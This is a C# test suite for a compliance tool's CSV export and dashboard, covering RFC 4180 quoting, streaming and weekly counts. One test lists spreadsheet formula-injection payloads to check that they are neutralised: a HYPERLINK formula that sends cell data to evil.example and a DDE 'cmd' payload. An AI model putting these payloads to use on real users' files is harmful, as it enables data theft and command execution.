using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;
using OutlookSayNo.Data;

namespace OutlookSayNo.ApiTests;

/// <summary>The CSV export of a search (header, one row per draft, RFC 4180 quoting, no formulas a
/// spreadsheet would run, streamed in full) and the compliance dashboard's numbers.</summary>
public abstract class ComplianceExportTests : IDisposable
{
    // One row per draft (email); the last two columns say how often it was drafted and when last.
    private const string Header = "id,createdAtUtc,userId,userName,customerDomain,fromEmail,subject,kind,audience,flags,status,sentAtUtc,sentUnchanged,failedChecks,review,comments,templateVersion,revisions,latestRevisionAtUtc";

    private readonly SayNoFactory _factory;
    private readonly HttpClient _manager;
    private readonly HttpClient _reviewer;

    protected ComplianceExportTests(SayNoFactory factory)
    {
        _factory = factory;
        _manager = _factory.ClientAs("AccountManager", "Alex Morgan");
        _reviewer = _factory.ClientAs("ComplianceReviewer", "Rita Review");
    }

    public void Dispose() => _factory.Dispose();

    /// <summary>An RFC 4180 reader: fields split by commas, records ended by CRLF, a quoted field may hold
    /// commas, line breaks and doubled quotes. Every record must be complete (the last one ends with CRLF too).</summary>
    public static List<string[]> ParseCsv(string text)
    {
        var rows = new List<string[]>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        var wasQuoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c != '"') field.Append(c);
                else if (i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
                else quoted = false;
                continue;
            }
            switch (c)
            {
                case '"':
                    Assert.True(field.Length == 0 && !wasQuoted, $"A quote inside an unquoted field at {i}: {Around(text, i)}");
                    quoted = wasQuoted = true;
                    break;
                case ',':
                    row.Add(field.ToString());
                    field.Clear();
                    wasQuoted = false;
                    break;
                case '\r':
                    Assert.True(i + 1 < text.Length && text[i + 1] == '\n', $"A carriage return outside quotes without a line feed at {i}: {Around(text, i)}");
                    i++;
                    row.Add(field.ToString());
                    rows.Add([.. row]);
                    row.Clear();
                    field.Clear();
                    wasQuoted = false;
                    break;
                case '\n':
                    Assert.Fail($"A bare line feed outside quotes at {i} (records end with CRLF): {Around(text, i)}");
                    break;
                default:
                    Assert.True(!wasQuoted, $"Text after a closing quote at {i}: {Around(text, i)}");
                    field.Append(c);
                    break;
            }
        }
        Assert.False(quoted, "The CSV ends inside a quoted field.");
        Assert.True(row.Count == 0 && field.Length == 0, "The last record does not end with CRLF: the export was cut short.");
        Assert.All(rows, r => Assert.Equal(rows[0].Length, r.Length));
        return rows;
    }

    private static string Around(string text, int i) => text[Math.Max(0, i - 40)..Math.Min(text.Length, i + 40)];

    private async Task<string> Draft(string subject, string email = "priya.nair@northwind-foods.com", string name = "Priya Nair", string? body = null)
    {
        var response = await _manager.PostJsonAsync("/api/drafts",
            new { email = Json.Email(body ?? Emails.DiscountBody, subject, name, email), category = "discount", audience = "commercial" });
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return (string)(await response.ReadNodeAsync())["id"]!;
    }

    private async Task<(HttpResponseMessage Response, List<string[]> Rows)> Export(string query = "")
    {
        var response = await _reviewer.GetAsync("/api/compliance/export.csv" + (query.Length > 0 ? "?" + ComplianceReviewApiTests.Query(query) : ""));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return (response, ParseCsv(await response.Content.ReadAsStringAsync()));
    }

    private static string Cell(List<string[]> rows, string[] row, string column)
    {
        var index = Array.IndexOf(rows[0], column);
        Assert.True(index >= 0, $"No column {column}.");
        return row[index];
    }

    // ---- the CSV

    [Fact]
    public async Task The_export_has_a_header_row_and_one_row_per_matching_draft_in_the_search_order()
    {
        var first = await Draft("Renewal quote");
        _factory.Clock.Advance(TimeSpan.FromHours(2));
        await Draft("Support plan", "ana.silva@contoso.com", "Ana Silva");
        _factory.Clock.Advance(TimeSpan.FromHours(2));
        var third = await Draft("Budget 2027");

        var (_, rows) = await Export("domain=northwind-foods.com");
        Assert.Equal(Header, string.Join(',', rows[0]));
        Assert.Equal(3, rows.Count);
        var search = await ComplianceReviewApiTests.Search(_reviewer, "domain=northwind-foods.com");
        Assert.Equal(search["items"]!.AsArray().Select(i => (string)i!["id"]!), rows.Skip(1).Select(r => r[0]));
        Assert.Equal([third, first], rows.Skip(1).Select(r => r[0]));

        var row = rows[2];
        Assert.Equal("2026-11-16T09:00:00.0000000Z", Cell(rows, row, "createdAtUtc"));
        Assert.Equal("alex.morgan", Cell(rows, row, "userId"));
        Assert.Equal("Alex Morgan", Cell(rows, row, "userName"));
        Assert.Equal("northwind-foods.com", Cell(rows, row, "customerDomain"));
        Assert.Equal("priya.nair@northwind-foods.com", Cell(rows, row, "fromEmail"));
        Assert.Equal("Renewal quote", Cell(rows, row, "subject"));
        Assert.Equal("discount", Cell(rows, row, "kind"));
        Assert.Equal("commercial", Cell(rows, row, "audience"));
        Assert.Equal("", Cell(rows, row, "flags"));
        Assert.Equal("generated", Cell(rows, row, "status"));
        Assert.Equal("", Cell(rows, row, "sentAtUtc"));
        Assert.Equal("", Cell(rows, row, "sentUnchanged"));
        Assert.Equal("", Cell(rows, row, "failedChecks"));
        Assert.Equal("none", Cell(rows, row, "review"));
        Assert.Equal("0", Cell(rows, row, "comments"));
        Assert.Equal("1", Cell(rows, row, "templateVersion"));

        Assert.Equal(4, (await Export()).Rows.Count);
        var none = await Export("domain=nobody.example");
        Assert.Equal([Header], none.Rows.Select(r => string.Join(',', r)));
    }

    [Fact]
    public async Task The_export_is_a_csv_attachment()
    {
        await Draft("Renewal quote");
        var (response, _) = await Export();
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("utf-8", response.Content.Headers.ContentType?.CharSet);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.EndsWith(".csv", response.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.False(bytes is [0xEF, 0xBB, 0xBF, ..], "No byte-order mark before the header.");
    }

    [Fact]
    public async Task A_sent_and_flagged_draft_exports_its_status_flags_and_failed_checks()
    {
        var data = await ReviewDataset.BuildAsync(_factory);
        var (_, rows) = await Export("q=Pilot rollout");
        var row = Assert.Single(rows.Skip(1));
        Assert.Equal(data.Id("alex-pilot"), row[0]);
        Assert.Equal("sent", Cell(rows, row, "status"));
        Assert.Equal("2026-11-23T01:00:00.0000000Z", Cell(rows, row, "sentAtUtc"));
        Assert.Equal("False", Cell(rows, row, "sentUnchanged"));
        Assert.Equal("offersAlternative respectful", Cell(rows, row, "failedChecks"));

        (_, rows) = await Export("flag=any");
        Assert.Equal(["sam-penalties", "sam-dashboards", "alex-order"], rows.Skip(1).Select(r => data.Label(r[0])));
        Assert.Equal(["threat", "abusive", "threat"], rows.Skip(1).Select(r => Cell(rows, r, "flags")));
    }

    [Fact]
    public async Task A_subject_with_commas_quotes_and_a_line_break_round_trips_through_a_csv_parser()
    {
        const string subject = "Renewal, \"final\" offer\r\nfor 2027, as discussed";
        var id = await Draft(subject);
        var (response, rows) = await Export();
        Assert.Equal(2, rows.Count);
        Assert.Equal(id, rows[1][0]);
        Assert.Equal(subject, Cell(rows, rows[1], "subject"));
        Assert.Contains("\"Renewal, \"\"final\"\" offer\r\nfor 2027, as discussed\"", await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task A_formula_after_a_semicolon_or_tab_is_neutralised_and_every_field_is_quoted()
    {
        // A spreadsheet in a locale whose list separator is ';' splits this subject into three cells,
        // the second and third of them formulas, unless each starts with an apostrophe.
        var id = await Draft("Q3 renewal;=1+2;@SUM(9;9)\t+7");
        var (response, rows) = await Export();
        Assert.Equal("Q3 renewal;'=1+2;'@SUM(9;9)\t'+7", Cell(rows, rows.Single(r => r[0] == id), "subject"));

        var line = (await response.Content.ReadAsStringAsync()).Split("\r\n")[1];
        Assert.StartsWith($"\"{id}\",", line);
        Assert.EndsWith("\"", line);
        Assert.Equal(rows[0].Length, rows[1].Length);
        Assert.All(rows[1], cell => Assert.Contains($"\"{cell.Replace("\"", "\"\"")}\"", line));
    }

    [Fact]
    public async Task Values_a_spreadsheet_would_run_as_a_formula_start_with_an_apostrophe()
    {
        string[] subjects =
        [
            "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open invoice\")",
            "+SUM(1,2)",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
        ];
        var ids = new Dictionary<string, string>();
        foreach (var subject in subjects)
        {
            ids[subject] = await Draft(subject);
            _factory.Clock.Advance(TimeSpan.FromMinutes(1));
        }
        var harmless = await Draft("Budget - Q4 = final?");
        _factory.Clock.Advance(TimeSpan.FromMinutes(1));
        var formulaSender = await Draft("Renewal quote", email: "=1+1@evil.example", name: "Eve");

        var (_, rows) = await Export();
        string Row(string id, string column) => Cell(rows, rows.Single(r => r[0] == id), column);
        foreach (var subject in subjects) Assert.Equal("'" + subject, Row(ids[subject], "subject"));
        Assert.Equal("Budget - Q4 = final?", Row(harmless, "subject"));
        Assert.Equal("'=1+1@evil.example", Row(formulaSender, "fromEmail"));
        Assert.All(rows.Skip(1).SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@".Contains(cell[0]), $"A cell starts a formula: {cell}"));
    }

    [Fact]
    public async Task An_export_with_a_bad_filter_is_a_400_naming_it()
    {
        var response = await _reviewer.GetAsync("/api/compliance/export.csv?status=archived");
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.NotNull((await response.ReadNodeAsync())["errors"]!["status"]);
    }

    [Fact]
    public async Task An_export_of_2000_drafts_streams_every_row()
    {
        // The export reads the drafts index, so for volume the test writes 2,000 index rows directly.
        // (The log itself is only ever written through the API; these rows have no log records, and
        // the export does not need any.)
        const int count = 2000;
        var start = SayNoFactory.Now.UtcDateTime;
        var expected = new List<string>(count);
        await using (var scope = _factory.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<SayNoDb>();
            for (var i = 0; i < count; i++)
            {
                var id = Guid.CreateVersion7().ToString();
                expected.Add(id);
                db.Drafts.Add(new DraftRecord
                {
                    Id = id,
                    CreatedAtUtc = start.AddMinutes(-i),
                    UserId = i % 2 == 0 ? "alex.morgan" : "sam.carter",
                    UserName = i % 2 == 0 ? "Alex Morgan" : "Sam Carter",
                    Category = "discount",
                    Audience = "commercial",
                    Threat = false,
                    Abusive = false,
                    ManagerCopyAdvised = false,
                    TemplateId = "discount/commercial",
                    TemplateVersion = 1,
                    GeneratedFailed = 0,
                    CustomerDomain = "bulk.example",
                    FromName = $"Customer {i}",
                    FromEmail = $"customer{i}@bulk.example",
                    EmailSubject = $"Renewal {i}, \"urgent\"",
                    Subject = $"Re: Renewal {i}",
                    Status = "generated",
                    Review = "none",
                    GeneratedSeq = 1_000_000 + i,
                    EmailKey = "draft:" + id,
                    LatestAtUtc = start.AddMinutes(-i),
                    LatestSeq = 1_000_000 + i,
                });
            }
            await db.SaveChangesAsync();
        }

        using var response = await _reviewer.GetAsync("/api/compliance/export.csv?domain=bulk.example", HttpCompletionOption.ResponseHeadersRead);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        string text;
        await using (var stream = await response.Content.ReadAsStreamAsync())
        using (var reader = new StreamReader(stream, Encoding.UTF8))
            text = await reader.ReadToEndAsync();
        var rows = ParseCsv(text);
        Assert.Equal(count + 1, rows.Count);
        Assert.Equal(expected, rows.Skip(1).Select(r => r[0])); // newest first: the order they were made in, going back a minute each
        Assert.Equal("Renewal 1999, \"urgent\"", rows[^1][6]);
    }

    // ---- the dashboard

    private async Task<JsonNode> Dashboard(string query = "")
    {
        var response = await _reviewer.GetAsync("/api/compliance/dashboard" + (query.Length > 0 ? "?" + query : ""));
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        return await response.ReadNodeAsync();
    }

    private static string[] Weeks(JsonNode dashboard) => dashboard["perWeek"]!.AsArray()
        .Select(w => $"{(string)w!["weekStart"]!} {(string)w["kind"]!}/{(string)w["audience"]!} {(long)w["count"]!}").ToArray();

    private static string[] Pressure(JsonNode dashboard) => dashboard["pressureByDomain"]!.AsArray()
        .Select(p => $"{(string)p!["domain"]!} threats={(long)p["threats"]!} abusive={(long)p["abusive"]!} drafts={(long)p["drafts"]!}").ToArray();

    private static string[] FailedChecks(JsonNode dashboard) => dashboard["failedChecks"]!.AsArray()
        .Select(c => $"{(string)c!["key"]!}={(long)c["count"]!}").ToArray();

    [Fact]
    public async Task The_dashboard_counts_the_dataset_per_monday_week_kind_and_audience_with_shares_and_pressure_by_domain()
    {
        await ReviewDataset.BuildAsync(_factory);
        var d = await Dashboard();

        Assert.Equal(ReviewDataset.Wednesday.UtcDateTime, (DateTime)d["toUtc"]!);
        Assert.Equal(ReviewDataset.Wednesday.UtcDateTime.AddDays(-84), (DateTime)d["fromUtc"]!);
        Assert.Equal(8, (long)d["drafts"]!);
        Assert.Equal(5, (long)d["sent"]!);
        Assert.Equal(0.2, (double)d["shareSentUnchanged"]!); // 1 of 5 sent replies went out as drafted
        Assert.Equal(0.375, (double)d["shareWithFailedChecks"]!); // 3 of 8: two sent without an alternative, one also rude
        // Sunday 22 November 23:00 UTC still counts in the week of Monday 16; Monday 23 00:30 starts the next.
        Assert.Equal(
        [
            "2026-11-16 deadline/technical 1",
            "2026-11-16 discount/commercial 2",
            "2026-11-16 exception/commercial 1",
            "2026-11-16 payment_terms/finance 1",
            "2026-11-16 scope/technical 1",
            "2026-11-23 deadline/commercial 1",
            "2026-11-23 liability/technical 1",
        ], Weeks(d));
        Assert.Equal(
        [
            "fabrikam-plants.com threats=1 abusive=1 drafts=2",
            "northwind-foods.com threats=1 abusive=0 drafts=1",
        ], Pressure(d));
        Assert.Equal(["saysNo=0", "givesReason=0", "citesData=0", "offersAlternative=3", "respectful=1", "grounded=0"], FailedChecks(d));
    }

    [Fact]
    public async Task The_dashboard_counts_only_the_drafts_inside_its_window()
    {
        await ReviewDataset.BuildAsync(_factory);

        var thisWeek = await Dashboard("from=2026-11-23");
        Assert.Equal(2, (long)thisWeek["drafts"]!);
        Assert.Equal(1, (long)thisWeek["sent"]!);
        Assert.Equal(0.0, (double)thisWeek["shareSentUnchanged"]!);
        Assert.Equal(0.5, (double)thisWeek["shareWithFailedChecks"]!);
        Assert.Equal(["2026-11-23 deadline/commercial 1", "2026-11-23 liability/technical 1"], Weeks(thisWeek));
        Assert.Equal(["northwind-foods.com threats=1 abusive=0 drafts=1"], Pressure(thisWeek));
        Assert.Equal(["saysNo=0", "givesReason=0", "citesData=0", "offersAlternative=1", "respectful=1", "grounded=0"], FailedChecks(thisWeek));

        var lastWeek = await Dashboard("from=2026-11-16&to=2026-11-23");
        Assert.Equal(6, (long)lastWeek["drafts"]!);
        Assert.Equal(4, (long)lastWeek["sent"]!);
        Assert.Equal(0.25, (double)lastWeek["shareSentUnchanged"]!);
        Assert.Equal(0.3333, (double)lastWeek["shareWithFailedChecks"]!);
        Assert.Equal(["fabrikam-plants.com threats=1 abusive=1 drafts=2"], Pressure(lastWeek));

        var empty = await Dashboard("from=2025-01-01&to=2025-02-01");
        Assert.Equal(0, (long)empty["drafts"]!);
        Assert.Equal(0.0, (double)empty["shareSentUnchanged"]!);
        Assert.Equal(0.0, (double)empty["shareWithFailedChecks"]!);
        Assert.Empty(empty["perWeek"]!.AsArray());
        Assert.Empty(empty["pressureByDomain"]!.AsArray());
    }

    [Fact]
    public async Task A_dashboard_window_that_ends_before_it_starts_is_a_400()
    {
        var response = await _reviewer.GetAsync("/api/compliance/dashboard?from=2026-11-23&to=2026-11-16");
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.NotNull((await response.ReadNodeAsync())["errors"]!["from"]);
    }
}

public sealed class ComplianceExportOnSqliteTests() : ComplianceExportTests(new SayNoFactory());

public sealed class ComplianceExportOnPostgresTests() : ComplianceExportTests(new SayNoFactory { PostgresConnectionString = Testing.PostgresServer.Shared.CreateDatabase() });
